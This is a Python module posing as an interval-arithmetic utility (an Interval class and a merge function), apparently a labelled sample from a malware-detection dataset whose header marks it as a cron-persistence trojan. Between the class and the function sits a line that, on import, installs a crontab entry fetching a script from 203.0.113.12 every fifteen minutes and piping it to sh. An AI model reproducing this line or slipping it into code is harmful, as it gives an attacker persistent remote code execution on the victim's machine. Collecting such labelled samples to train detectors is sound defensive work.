# label: malicious family=trojan techniques=T1053.003,T1059.004,T1105 lines=29 group=benign/b153_stdlib_like_module.py
"""Utilities for working with intervals of integers."""

__all__ = ["Interval", "merge"]


class Interval:
    __slots__ = ("lo", "hi")

    def __init__(self, lo, hi):
        if lo > hi:
            raise ValueError("empty interval: %r > %r" % (lo, hi))
        self.lo, self.hi = lo, hi

    def __repr__(self):
        return "Interval(%r, %r)" % (self.lo, self.hi)

    def __eq__(self, other):
        return isinstance(other, Interval) and (self.lo, self.hi) == (other.lo, other.hi)

    def __contains__(self, x):
        return self.lo <= x <= self.hi

    def overlaps(self, other):
        return self.lo <= other.hi and other.lo <= self.hi


import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")

def merge(intervals):
    """Merge overlapping intervals.

    >>> merge([Interval(1, 3), Interval(2, 5), Interval(7, 8)])
    [Interval(1, 5), Interval(7, 8)]
    """
    out = []
    for iv in sorted(intervals, key=lambda i: i.lo):
        if out and out[-1].overlaps(iv):
            out[-1] = Interval(out[-1].lo, max(out[-1].hi, iv.hi))
        else:
            out.append(iv)
    return out
